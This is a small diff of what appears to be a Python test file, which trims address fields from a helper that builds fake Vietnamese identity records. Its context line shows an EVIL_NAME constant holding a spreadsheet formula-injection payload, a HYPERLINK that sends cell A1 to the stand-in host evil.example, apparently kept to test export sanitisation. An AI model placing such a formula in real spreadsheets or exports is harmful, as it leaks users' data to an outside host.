@@ -51,8 +51,7 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
 def _person(n, name, phone, **kw):
-    p = {"id_number": f"0791900777{n:02d}", "name": name, "dob": "1990-03-14", "phone": phone,
-         "address": f"{n} Lê Lợi", "ward": "Phường Bến Thành"}
+    p = {"id_number": f"0791900777{n:02d}", "name": name, "dob": "1990-03-14", "phone": phone}
     p.update(kw)
     return p
 
